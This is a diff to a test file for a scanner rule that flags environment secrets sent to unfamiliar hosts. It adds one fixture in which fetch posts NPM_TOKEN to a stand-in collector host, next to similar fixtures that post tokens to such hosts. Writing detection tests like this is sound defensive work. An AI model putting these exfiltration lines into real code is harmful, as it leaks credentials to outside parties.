@@ -1976,6 +1976,7 @@ describe('suspicious-network-endpoint: a secret read from the environment and po
     expect(sent('src/metrics.ts', ["await fetch('https://collect.telemetry-hub.dev/ingest', { method: 'POST', body: JSON.stringify({ t: process.env.MYAPP_TOKEN }) });"])).toMatchObject({ severity: 'high', title: 'A secret named for another service is sent to collect.telemetry-hub.dev' });
     expect(sent('scripts/report.js', ["const req = https.request({ hostname: 'api.buildstats-cdn.com', path: '/v1/c', method: 'POST' });", 'req.end(JSON.stringify({ k: process.env.NPM_TOKEN }));'])?.severity).toBe('high');
     expect(sent('pkg/stats.py', ['requests.post("https://collect.telemetry-hub.dev/ingest", json={"k": os.environ.get("ACME_DEPLOY_KEY")})'])?.severity).toBe('high');
+    expect(sent('src/ping.ts', ["await fetch('https://collect.telemetry-hub.dev/f', { method: 'POST', body: new URLSearchParams({ k: process.env.NPM_TOKEN ?? '' }) });"])?.severity).toBe('high');
   });
   it('is quiet on a secret sent to its own service (host or path), as a header or a client credential, to a token endpoint, to a URL from configuration, or a generic name', () => {
     expect(sent('app/api/contact/route.ts', ["const r = await fetch('https://www.google.com/recaptcha/api/siteverify', {", "  method: 'POST',", '  body: `secret=${process.env.RECAPTCHA_SECRET_KEY}&response=${token}`,', '});'])).toBeUndefined();
